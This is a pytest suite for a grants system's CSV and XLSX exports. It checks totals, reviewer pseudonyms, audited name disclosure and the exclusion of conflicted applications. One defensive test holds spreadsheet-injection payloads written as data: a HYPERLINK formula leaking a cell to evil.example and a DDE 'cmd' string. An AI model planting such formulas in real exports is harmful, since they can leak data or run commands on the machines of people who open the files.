"""Officers' exports over HTTP: a call's applications, reviews, awards and payments and the
portfolio's awards and payments, as CSV and XLSX, streamed; with totals that agree with the
tables, reviewers under pseudonyms unless names are asked for (and audited), conflicted
applications left out, and a number of queries that does not grow with the rows."""

import csv
import io
import itertools
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from types import SimpleNamespace
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from flask import render_template_string
from sqlalchemy import func, select, text

from grants.accounts.models import User, UserRole
from grants.applications.models import Application, BudgetLine, TeamMember
from grants.audit.models import AuditEvent
from grants.awards.models import Award, AwardFunding, Payment
from grants.calls.models import RubricCriterion
from grants.extensions import db
from grants.reviews.models import ConflictOfInterest, CriterionScore, Review, ReviewAssignment
from grants.security.predicates import (
    can_manage_award,
    can_see_reviewer_identities,
    can_see_scores,
    can_view_application,
)
from grants.security.visibility import hidden_for
from grants.timeutil import utcnow
from tests.query_counter import counting_queries

_n = itertools.count(1)
SUBMITTED = datetime(2018, 5, 31, 15, 59, 30, tzinfo=UTC)  # 16:59:30 in London (summer time)
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


# Building calls of any size quickly: rows written straight through the ORM, shaped as the
# services shape them (the services' own rules are tested elsewhere).


def person(session, *, country="GB", institution=None, roles=()) -> User:
    n = next(_n)
    user = User(
        email=f"export-person-{n}@example.org",
        full_name=f"Export Person {n}",
        password_hash="!",
        institution_id=institution.id if institution else None,
        country=country,
        role_rows=[UserRole(role=role) for role in roles],
    )
    session.add(user)
    return user


def fill_call(factory, call, count, *, reviewers=None, title=None, draft=False):
    """``count`` submitted applications on ``call``, each with a UK and a China lead and an
    invited (not joined) German co-investigator, budget lines for both funders, two reviews by
    the call's reviewers (every third second review still a draft) and one declined invitation;
    every other application awarded, with three payments per funder (paid, scheduled,
    cancelled). With ``draft`` one more application, a draft. Returns the applications."""
    session = factory.session
    uk, cn = call.funders
    gb_institution = factory.institution(country="GB")
    cn_institution = factory.institution(country="CN")
    criteria = [criterion.id for criterion in call.criteria]
    reviewers = reviewers or [person(session, roles=["reviewer"]) for _ in range(3)]
    now = utcnow()
    applications = []
    for i in range(count):
        lead = person(session, institution=gb_institution)
        partner = person(session, country="CN", institution=cn_institution)
        application = Application(
            call=call,
            lead_applicant=lead,
            state="under_review",
            reference=f"{call.reference_prefix}-{next(_n):05d}",
            title=title or f"Project {i + 1}",
            priority_area="Food safety",
            duration_months=24,
            submitted_at=SUBMITTED,
            submission_count=1,
        )
        application.members = [
            TeamMember(
                user=lead,
                email=lead.email,
                full_name=lead.full_name,
                role="lead",
                country="GB",
                institution_id=gb_institution.id,
                accepted_at=now,
            ),
            TeamMember(
                user=partner,
                email=partner.email,
                full_name=partner.full_name,
                role="lead",
                country="CN",
                institution_id=cn_institution.id,
                accepted_at=now,
            ),
            TeamMember(email=f"invited-{next(_n)}@example.org", full_name="Invited", country="DE"),
        ]
        application.budget_lines = [
            BudgetLine(
                call_funder_id=uk.id,
                year=year,
                category="staff",
                description="Postdoc",
                amount_minor=25_000_00 + 101 * i + year,
                currency="GBP",
            )
            for year in (1, 2)
        ] + [
            BudgetLine(
                call_funder_id=cn.id,
                year=1,
                category="travel",
                description="Visits",
                amount_minor=80_000_50 + i,
                currency="CNY",
            )
        ]
        session.add(application)
        for k, reviewer in enumerate(reviewers[:2]):
            assignment = ReviewAssignment(
                call_id=call.id, application=application, reviewer=reviewer, state="accepted"
            )
            done = not (k == 1 and i % 3 == 0)
            assignment.review = Review(
                state="submitted" if done else "draft",
                recommendation="fund_with_changes" if done else None,
                comments_for_applicant=f"Clear aims ({i}).",
                comments_for_panel="Strong team.",
                overall_score=(3.0 + k + i % 2) if done else None,
                submitted_at=SUBMITTED + timedelta(days=20) if done else None,
                scores=[CriterionScore(criterion_id=c, score=3 + k) for c in criteria],
            )
            session.add(assignment)
        session.add(
            ReviewAssignment(
                call_id=call.id, application=application, reviewer=reviewers[2], state="declined"
            )
        )
        if i % 2 == 0:
            award(session, call, application)
        applications.append(application)
    if draft:
        lead = person(session, institution=gb_institution)
        application = Application(call=call, lead_applicant=lead, title="Still drafting")
        application.members = [
            TeamMember(
                user=lead,
                email=lead.email,
                full_name=lead.full_name,
                role="lead",
                country="GB",
                institution_id=gb_institution.id,
                accepted_at=now,
            )
        ]
        session.add(application)
        applications.append(application)
    session.flush()
    return applications


def award(session, call, application, start=date(2019, 1, 1)):
    uk, cn = call.funders
    award = Award(
        application=application,
        call_id=call.id,
        reference=f"AW-{next(_n):05d}",
        state="active",
        start_date=start,
        end_date=start + timedelta(days=3 * 365),
        original_end_date=start + timedelta(days=3 * 365),
        terms="Terms.",
        offer_expires_at=utcnow() + timedelta(days=30),
    )
    for entry, part in ((uk, 30_000_00), (cn, 250_000_00)):
        award.fundings.append(
            AwardFunding(call_funder_id=entry.id, currency=entry.currency, amount_minor=3 * part)
        )
        for sequence, state in enumerate(("released", "scheduled", "cancelled"), start=1):
            award.payments.append(
                Payment(
                    call_funder_id=entry.id,
                    sequence=sequence,
                    currency=entry.currency,
                    amount_minor=part + sequence,
                    due_on=start + timedelta(days=365 * (sequence - 1)),
                    state=state,
                    paid_on=start if state == "released" else None,
                    payment_reference=f"FIN-{next(_n)}" if state == "released" else None,
                )
            )
    session.add(award)
    return award


@pytest.fixture
def officer(factory):
    return factory.officer()


@pytest.fixture
def call(factory, officer):
    call = factory.call(officer=officer)
    call.criteria.append(RubricCriterion(position=1, name="Partnership", weight=1))
    factory.session.flush()
    return call


@pytest.fixture
def browser(client, sign_in, officer):
    assert sign_in(officer).status_code in (302, 303)
    return client


def export(browser, url, status=200):
    response = browser.get(url)
    assert response.status_code == status, (url, response.status_code, response.get_data(as_text=True)[:300])
    return response


def csv_rows(browser, url) -> list[dict[str, str]]:
    response = export(browser, url)
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def csv_header(browser, url) -> list[str]:
    return next(csv.reader(io.StringIO(export(browser, url).get_data().decode("utf-8-sig"))))


def xlsx_sheet(browser, url):
    response = export(browser, url)
    assert response.mimetype == XLSX
    return openpyxl.load_workbook(io.BytesIO(response.get_data())).active


def call_url(call, dataset, fmt="csv", **args):
    query = "&".join(f"{k}={v}" for k, v in args.items())
    return f"/manage/calls/{call.id}/export/{dataset}.{fmt}" + (f"?{query}" if query else "")


def sql(statement, **params):
    return db.session.execute(text(statement), params).all()


# Applications


def test_the_applications_export_has_every_application_with_its_requests_and_scores(browser, call, factory):
    applications = fill_call(factory, call, 4, draft=True)
    uk, cn = call.funders
    rows = csv_rows(browser, call_url(call, "applications"))

    (total,) = sql("SELECT COUNT(*) FROM applications WHERE call_id = :c", c=call.id)[0]
    assert len(rows) == total == 5
    assert list(rows[0]) == [
        "Reference",
        "Title",
        "Status",
        "Priority area",
        "Lead applicant",
        "Lead institution",
        "Lead country",
        "Countries",
        "Joined members",
        "Submitted at (Europe/London)",
        "Duration (months)",
        f"Requested from {uk.funder.short_name} (GBP)",
        f"Requested from {cn.funder.short_name} (CNY)",
        "Reviews submitted",
        "Mean overall score",
    ]
    first = rows[0]
    lead = applications[0].lead_applicant
    assert first["Reference"] == applications[0].reference
    assert first["Status"] == "Under review"
    assert first["Lead applicant"] == lead.full_name
    assert first["Lead institution"] == lead.institution.name
    assert (first["Lead country"], first["Countries"], first["Joined members"]) == ("GB", "CN, GB", "2")
    assert first["Submitted at (Europe/London)"] == "2018-05-31 16:59:30"  # the call's zone, Europe/London
    assert first["Duration (months)"] == "24"

    requested = {
        (reference, funder): Decimal(total) / 100
        for reference, funder, total in sql(
            "SELECT a.reference, bl.call_funder_id, SUM(bl.amount_minor) FROM budget_lines bl "
            "JOIN applications a ON a.id = bl.application_id WHERE a.call_id = :c "
            "GROUP BY a.reference, bl.call_funder_id",
            c=call.id,
        )
    }
    scores = {
        reference: (count, mean)
        for reference, count, mean in sql(
            "SELECT a.reference, COUNT(r.id), AVG(r.overall_score) FROM review_assignments ra "
            "JOIN reviews r ON r.assignment_id = ra.id JOIN applications a ON a.id = ra.application_id "
            "WHERE ra.call_id = :c AND ra.state = 'accepted' AND r.state = 'submitted' GROUP BY a.reference",
            c=call.id,
        )
    }
    for row in rows[:4]:
        reference = row["Reference"]
        assert Decimal(row[f"Requested from {uk.funder.short_name} (GBP)"]) == requested[(reference, uk.id)]
        assert Decimal(row[f"Requested from {cn.funder.short_name} (CNY)"]) == requested[(reference, cn.id)]
        count, mean = scores[reference]
        assert int(row["Reviews submitted"]) == count
        assert float(row["Mean overall score"]) == pytest.approx(mean, abs=0.001)

    draft = rows[4]
    assert draft["Reference"] == f"Draft {applications[4].id}"
    assert (draft["Status"], draft["Submitted at (Europe/London)"], draft["Reviews submitted"]) == (
        "Draft",
        "",
        "0",
    )
    assert draft["Mean overall score"] == ""
    assert Decimal(draft[f"Requested from {uk.funder.short_name} (GBP)"]) == 0


def test_the_applications_workbook_has_numbers_dates_and_a_frozen_bold_header(browser, call, factory):
    (application,) = fill_call(factory, call, 1)
    sheet = xlsx_sheet(browser, call_url(call, "applications", "xlsx"))
    header = [cell.value for cell in sheet[1]]
    assert header[0] == "Reference" and all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    assert row["Reference"].value == application.reference
    assert row["Submitted at (Europe/London)"].is_date
    assert row["Submitted at (Europe/London)"].value == SUBMITTED.astimezone(
        ZoneInfo("Europe/London")
    ).replace(tzinfo=None)
    requested = row[header[11]]
    assert requested.data_type == "n" and requested.number_format == "#,##0.00"
    assert requested.value == pytest.approx((25_000_00 * 2 + 3) / 100)
    assert row["Joined members"].value == 2 and row["Duration (months)"].data_type == "n"


# Reviews


def test_reviewers_appear_under_stable_pseudonyms_by_default(browser, call, factory):
    reviewers = [person(factory.session, roles=["reviewer"]) for _ in range(3)]
    factory.session.flush()
    fill_call(factory, call, 3, reviewers=reviewers)
    rows = csv_rows(browser, call_url(call, "reviews"))

    (active,) = sql(
        "SELECT COUNT(*) FROM review_assignments WHERE call_id = :c AND state IN ('invited', 'accepted')",
        c=call.id,
    )[0]
    assert len(rows) == active == 6
    assert list(rows[0]) == [
        "Application reference",
        "Application title",
        "Reviewer",
        "Invitation",
        "Review status",
        "Submitted at (Europe/London)",
        "Recommendation",
        "Excellence",
        "Partnership",
        "Overall score",
        "Comments for the applicant",
        "Comments for the panel",
    ]
    # Numbered by ascending user id over every invitation in the call, the declined one included.
    by_id = sorted(reviewers, key=lambda r: r.id)
    expected = {reviewer.id: f"Reviewer {n}" for n, reviewer in enumerate(by_id, start=1)}
    assert [row["Reviewer"] for row in rows[:2]] == [expected[reviewers[0].id], expected[reviewers[1].id]]
    submitted, draft = rows[0], rows[1]
    assert (submitted["Invitation"], submitted["Review status"]) == ("Accepted", "Submitted")
    assert submitted["Recommendation"] == "Fund with changes"
    assert (submitted["Excellence"], submitted["Partnership"], submitted["Overall score"]) == (
        "3",
        "3",
        "3.0",
    )
    assert submitted["Submitted at (Europe/London)"] == "2018-06-20 16:59:30"
    assert submitted["Comments for the panel"] == "Strong team."
    # A draft shows its status, not its content (as the officers' review page does).
    assert draft["Review status"] == "Draft"
    assert (draft["Excellence"], draft["Overall score"], draft["Comments for the applicant"]) == ("", "", "")

    body = export(browser, call_url(call, "reviews")).get_data(as_text=True)
    assert not any(r.full_name in body or r.email in body for r in reviewers)
    sheet = xlsx_sheet(browser, call_url(call, "reviews", "xlsx"))
    assert [c.value for c in sheet["C"]][1:] == [row["Reviewer"] for row in rows]


def test_reviewer_names_come_only_when_asked_and_allowed_and_are_audited(browser, call, factory, officer):
    reviewers = [
        person(factory.session, roles=["reviewer"], institution=factory.institution()) for _ in range(3)
    ]
    factory.session.flush()
    (application, other) = fill_call(factory, call, 2, reviewers=reviewers)

    def audited():
        return db.session.scalar(
            select(func.count(AuditEvent.id)).where(
                AuditEvent.action == "export.reviewer_identities", AuditEvent.subject_id == call.id
            )
        )

    csv_rows(browser, call_url(call, "reviews"))
    assert audited() == 0
    rows = csv_rows(browser, call_url(call, "reviews", identities=1))
    assert list(rows[0])[2:5] == ["Reviewer", "Reviewer email", "Reviewer institution"]
    first = reviewers[0]
    assert (rows[0]["Reviewer"], rows[0]["Reviewer email"]) == (first.full_name, first.email)
    assert rows[0]["Reviewer institution"] == first.institution.name
    assert audited() == 1
    event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "export.reviewer_identities"))
    assert (event.actor_id, event.subject_type) == (officer.id, "Call")
    xlsx_sheet(browser, call_url(call, "reviews", "xlsx", identities=1))
    assert audited() == 2

    # Names in other exports are never at stake: the flag changes nothing there.
    csv_rows(browser, call_url(call, "applications", identities=1))
    assert audited() == 2

    # An officer who declined an invitation in the call may still see names...
    factory.session.add(
        ReviewAssignment(call_id=call.id, application=other, reviewer=officer, state="declined")
    )
    factory.session.flush()
    export(browser, call_url(call, "reviews", identities=1))
    assert audited() == 3
    # ...but not one who is invited to review in it.
    factory.session.add(
        ReviewAssignment(call_id=call.id, application=application, reviewer=officer, state="invited")
    )
    factory.session.commit()  # a refused request rolls back what is not committed
    refused = export(browser, call_url(call, "reviews", identities=1), status=403)
    assert "reviewer in this call" in refused.get_data(as_text=True)
    assert audited() == 3
    # The export without names still works, without the application they owe a review of.
    rows = csv_rows(browser, call_url(call, "reviews"))
    assert {row["Application reference"] for row in rows} == {other.reference}


def test_the_identity_rule_is_a_pure_predicate():
    officer = SimpleNamespace(id=1, is_authenticated=True, has_role=lambda role: role == "officer")
    researcher = SimpleNamespace(id=2, is_authenticated=True, has_role=lambda role: False)
    call = SimpleNamespace(id=10)

    def assignment(state, call_id=10, reviewer_id=1):
        return SimpleNamespace(call_id=call_id, reviewer_id=reviewer_id, state=state)

    assert can_see_reviewer_identities(officer, call, [])
    assert can_see_reviewer_identities(officer, call, [assignment("declined"), assignment("cancelled")])
    assert can_see_reviewer_identities(officer, call, [assignment("accepted", call_id=11)])
    assert can_see_reviewer_identities(officer, call, [assignment("invited", reviewer_id=3)])
    assert not can_see_reviewer_identities(officer, call, [assignment("invited")])
    assert not can_see_reviewer_identities(officer, call, [assignment("accepted")])
    assert not can_see_reviewer_identities(researcher, call, [])


# Conflicts


def conflicted_call(factory, call, officer):
    """Four applications: one with a conflict recorded against the officer, one whose China lead
    shares the officer's institution (found by detection), one clean, and a draft the officer
    has a recorded conflict with."""
    recorded, detected, clean = fill_call(factory, call, 3)
    award(factory.session, call, detected)  # recorded and clean have theirs already
    shared = factory.institution(country="CN")
    detected.members[1].institution_id = shared.id
    officer.institution_id = shared.id
    (draft,) = fill_call(factory, call, 0, draft=True)
    factory.session.add_all(
        ConflictOfInterest(
            application_id=a.id, reviewer_id=officer.id, source="officer", reason="Board member."
        )
        for a in (recorded, draft)
    )
    factory.session.flush()
    factory.session.expire_all()
    return recorded, detected, clean, draft


def test_rows_about_conflicted_applications_are_left_out_of_every_export(browser, call, factory, officer):
    recorded, detected, clean, draft = conflicted_call(factory, call, officer)
    hidden = {recorded.reference, detected.reference}

    applications = csv_rows(browser, call_url(call, "applications"))
    # Staff see drafts whatever the conflict (as ``can_view_application`` says).
    assert [row["Reference"] for row in applications] == [clean.reference, f"Draft {draft.id}"]
    reviews = csv_rows(browser, call_url(call, "reviews"))
    assert {row["Application reference"] for row in reviews} == {clean.reference}
    awards = csv_rows(browser, call_url(call, "awards"))
    assert {row["Application reference"] for row in awards} == {clean.reference}
    payments = csv_rows(browser, call_url(call, "payments"))
    assert {row["Award reference"] for row in payments} == {clean.award.reference}
    portfolio = csv_rows(browser, f"/manage/portfolio/export/awards.csv?programme={call.programme_id}")
    assert not {row["Application reference"] for row in portfolio} & hidden


def test_the_hidden_set_agrees_with_the_predicates(call, factory, officer):
    recorded, detected, clean, draft = conflicted_call(factory, call, officer)
    owed = fill_call(factory, call, 1)[0]
    factory.session.add(
        ReviewAssignment(call_id=call.id, application=owed, reviewer=officer, state="accepted")
    )
    factory.session.flush()
    factory.session.expire_all()
    hidden = hidden_for(officer, select(Application.id).where(Application.call_id == call.id))
    for application in (recorded, detected, clean, draft, owed):
        assert hidden.hides_application(application.id, application.state) == (
            not can_view_application(officer, application)
        ), application.title
        assert hidden.hides_reviews(application.id) == (not can_see_scores(officer, application))
        if application.award is not None:
            assert hidden.hides_award(application.id) == (not can_manage_award(officer, application.award))
    assert hidden.conflicted == {recorded.id, detected.id, draft.id}


def test_formulas_in_titles_and_comments_are_neutralised(browser, call, factory):
    title = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
    (application,) = fill_call(factory, call, 1, title=title)
    application.review_assignments[0].review.comments_for_applicant = "+cmd|' /C calc'!A0"
    factory.session.flush()

    rows = csv_rows(browser, call_url(call, "applications"))
    assert rows[0]["Title"] == "'" + title
    assert Decimal(rows[0][list(rows[0])[11]]) > 0  # numbers stay numbers
    reviews = csv_rows(browser, call_url(call, "reviews"))
    assert reviews[0]["Comments for the applicant"] == "'+cmd|' /C calc'!A0"
    sheet = xlsx_sheet(browser, call_url(call, "applications", "xlsx"))
    assert (sheet["B2"].value, sheet["B2"].data_type) == (title, "s")


# Awards and payments


def test_awarded_paid_and_still_to_pay_agree_with_the_payments(browser, call, factory):
    fill_call(factory, call, 4)
    rows = csv_rows(browser, call_url(call, "awards"))
    expected = {
        (reference, funder): (Decimal(paid) / 100, Decimal(scheduled) / 100)
        for reference, funder, paid, scheduled in sql(
            "SELECT aw.reference, f.short_name, "
            "SUM(CASE WHEN p.state = 'released' THEN p.amount_minor ELSE 0 END), "
            "SUM(CASE WHEN p.state = 'scheduled' THEN p.amount_minor ELSE 0 END) "
            "FROM payments p JOIN awards aw ON aw.id = p.award_id "
            "JOIN call_funders cf ON cf.id = p.call_funder_id JOIN funders f ON f.id = cf.funder_id "
            "WHERE aw.call_id = :c GROUP BY aw.reference, f.short_name",
            c=call.id,
        )
    }
    assert len(rows) == len(expected) == 4  # two awards, two funders each
    for row in rows:
        paid, scheduled = expected[(row["Award reference"], row["Funder"])]
        assert Decimal(row["Paid"]) == paid
        assert Decimal(row["Still to pay"]) == scheduled
        assert Decimal(row["Awarded"]) == paid + scheduled
    first = rows[0]
    assert (first["Status"], first["Start date"], first["Currency"]) == ("Active", "2019-01-01", "GBP")
    assert first["Programme"] == call.programme.name and first["Call"] == call.title

    payments = csv_rows(browser, call_url(call, "payments"))
    (count,) = sql(
        "SELECT COUNT(*) FROM payments p JOIN awards aw ON aw.id = p.award_id WHERE aw.call_id = :c",
        c=call.id,
    )[0]
    assert len(payments) == count == 12
    assert list(payments[0]) == [
        "Award reference",
        "Funder",
        "Currency",
        "Instalment",
        "Amount",
        "Due on",
        "Status",
        "Paid on",
        "Finance reference",
    ]
    assert [p["Status"] for p in payments[:3]] == ["Paid", "Scheduled", "Cancelled"]
    assert payments[0]["Paid on"] == "2019-01-01" and payments[0]["Finance reference"].startswith("FIN-")
    assert Decimal(payments[0]["Amount"]) == Decimal(30_000_01) / 100
    sheet = xlsx_sheet(browser, call_url(call, "payments", "xlsx"))
    assert sheet["F2"].is_date and sheet["E2"].number_format == "#,##0.00"


def test_the_portfolio_exports_follow_the_programme_and_year(browser, call, factory, officer):
    fill_call(factory, call, 2)  # one award, starting in 2019
    other_call = factory.call(officer=officer)
    (other,) = fill_call(factory, other_call, 1)
    factory.session.flush()

    def references(query):
        rows = csv_rows(browser, f"/manage/portfolio/export/awards.csv{query}")
        return {row["Award reference"] for row in rows}

    mine = {a.reference for a in db.session.scalars(select(Award).where(Award.call_id == call.id))}
    assert references(f"?programme={call.programme_id}") == mine
    assert references(f"?programme={other_call.programme_id}") == {other.award.reference}
    assert mine | {other.award.reference} <= references("")
    assert references(f"?programme={call.programme_id}&year=2019") == mine
    assert references(f"?programme={call.programme_id}&year=2030") == set()
    payments = csv_rows(browser, f"/manage/portfolio/export/payments.csv?programme={other_call.programme_id}")
    assert {row["Award reference"] for row in payments} == {other.award.reference} and len(payments) == 6


# The responses


def test_responses_are_streamed_attachments_that_are_not_cached(browser, call, officer):
    today = utcnow().astimezone(ZoneInfo(officer.time_zone)).date()
    response = browser.get(call_url(call, "applications"))
    assert response.is_streamed
    assert response.content_type == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="{call.reference_prefix}-applications-{today:%Y-%m-%d}.csv"'
    )
    assert response.headers["Cache-Control"] == "no-store"
    assert response.get_data().startswith(b"\xef\xbb\xbf")

    response = browser.get("/manage/portfolio/export/payments.xlsx?year=2019")
    assert response.is_streamed and response.mimetype == XLSX
    assert (
        response.headers["Content-Disposition"]
        == f'attachment; filename="portfolio-payments-{today:%Y-%m-%d}.xlsx"'
    )
    assert response.get_data()[:2] == b"PK"  # a zip, as every XLSX is


def test_an_empty_call_exports_its_headers(browser, call):
    assert csv_rows(browser, call_url(call, "awards")) == []
    assert csv_header(browser, call_url(call, "payments"))[0] == "Award reference"
    sheet = xlsx_sheet(browser, call_url(call, "reviews", "xlsx"))
    assert sheet.max_row == 1 and sheet["A1"].value == "Application reference"


def test_only_officers_export_and_bad_addresses_say_so(app, client, sign_in, call, factory):
    url = call_url(call, "applications")
    anonymous = client.get(url)
    assert anonymous.status_code == 302 and "/sign-in" in anonymous.headers["Location"]
    assert client.get("/manage/portfolio/export/awards.csv").status_code == 302

    for outsider in (factory.researcher(), factory.reviewer(), factory.user(roles=["admin"])):
        browser = app.test_client()
        assert sign_in(outsider, http_client=browser).status_code in (302, 303)
        assert browser.get(url).status_code == 403
        assert browser.get("/manage/portfolio/export/awards.csv").status_code == 403

    browser = app.test_client()
    sign_in(factory.officer(), http_client=browser)
    assert browser.get(call_url(call, "people")).status_code == 404
    assert browser.get(call_url(call, "applications", "pdf")).status_code == 404
    assert browser.get(f"/manage/calls/{call.id + 999}/export/applications.csv").status_code == 404
    assert browser.get("/manage/portfolio/export/applications.csv").status_code == 404
    for query, message in (
        ("year=20x8", "The year must be a whole number from 1990 to 2100."),
        ("year=18", "The year must be a whole number from 1990 to 2100."),
        ("year=²²²²", "The year must be a whole number from 1990 to 2100."),
        ("programme=one", "There is no such programme."),
        ("programme=0", "There is no such programme."),
        ("programme=99999999999999999999", "There is no such programme."),
    ):
        response = browser.get(f"/manage/portfolio/export/awards.csv?{query}")
        assert response.status_code == 400, query
        assert message in response.get_data(as_text=True)


def test_the_number_of_queries_does_not_grow_with_the_rows(browser, call, factory, officer):
    """Within a chunk of rows (500) the queries are fixed; a larger export adds that many per chunk."""
    fill_call(factory, call, 5)
    large = factory.call(officer=officer)
    fill_call(factory, large, 50)
    factory.session.flush()

    def queries(target, dataset, fmt="csv"):
        with counting_queries() as statements:
            response = browser.get(call_url(target, dataset, fmt))
            assert response.status_code == 200
            response.get_data()  # the rows are read while the body is written
        return len(statements)

    for dataset, fmt in (
        ("applications", "csv"),
        ("applications", "xlsx"),
        ("reviews", "csv"),
        ("awards", "csv"),
        ("payments", "xlsx"),
    ):
        queries(call, dataset, fmt)  # warm up what a first request loads once
        small, big = queries(call, dataset, fmt), queries(large, dataset, fmt)
        assert big == small, (dataset, fmt, small, big)
        assert small < 40, (dataset, small)


# The links


def test_the_export_links_name_each_dataset_and_format(app, call):
    template = '{% from "insights/_exports.html" import call_exports, portfolio_exports %}'
    with app.test_request_context():
        plain = render_template_string(template + "{{ call_exports(call, False) }}", call=call)
        named = render_template_string(template + "{{ call_exports(call, True) }}", call=call)
        portfolio = render_template_string(template + "{{ portfolio_exports({'year': 2019}) }}")
    for label in ("Applications", "Reviews", "Awards", "Payments"):
        for fmt in ("CSV", "XLSX"):
            assert f"{label} ({fmt})</a>" in plain
    assert f'href="/manage/calls/{call.id}/export/applications.xlsx"' in plain
    assert "Reviews with reviewer names" not in plain
    assert "conflict of interest" in plain and "Reviewer 1" in plain
    assert (
        "Reviews with reviewer names (XLSX)</a>" in named and "Reviews with reviewer names (CSV)</a>" in named
    )
    assert f"/manage/calls/{call.id}/export/reviews.csv?identities=1" in named
    assert "<script" not in named and "style=" not in named
    assert 'href="/manage/portfolio/export/awards.csv?year=2019"' in portfolio
    assert "Payments (XLSX)</a>" in portfolio and "Applications" not in portfolio


def test_rows_added_while_a_download_runs_stay_out(factory, officer, monkeypatch):
    """An export reads in chunks over seconds; an award (here one the officer is conflicted with)
    or an invitation added meanwhile was never checked, so it is not in this download."""
    from grants.insights.exports import awards as awards_export
    from grants.insights.exports import base, portfolio_export
    from grants.insights.services.scope import PortfolioScope

    monkeypatch.setattr(awards_export, "id_chunks", lambda ids, column: base.id_chunks(ids, column, size=1))
    first = factory.award()
    factory.session.flush()
    rows = iter(portfolio_export("awards", officer, PortfolioScope()).rows)
    exported = [next(rows)]
    late = factory.award()
    factory.session.add(
        ConflictOfInterest(
            application_id=late.application_id, reviewer_id=officer.id, source="officer", reason="Board."
        )
    )
    factory.session.flush()
    exported += list(rows)
    assert {row[0] for row in exported} == {first.reference}


def test_a_reviewer_invited_during_a_download_does_not_break_it(factory, officer, monkeypatch):
    from grants.insights.exports import base, call_export
    from grants.insights.exports import reviews as reviews_export
    from grants.reviews.services import invitations

    monkeypatch.setattr(reviews_export, "id_chunks", lambda ids, column: base.id_chunks(ids, column, size=1))
    call, (first, second), call_officer = factory.deciding_call(2)
    factory.submitted_review(call_officer, first, for_applicant="Good.")
    rows = iter(call_export("reviews", officer, call).rows)
    exported = [next(rows)]
    invitations.invite(call_officer, second, factory.reviewer(), utcnow())
    factory.session.flush()
    exported += list(rows)
    assert len(exported) == 1
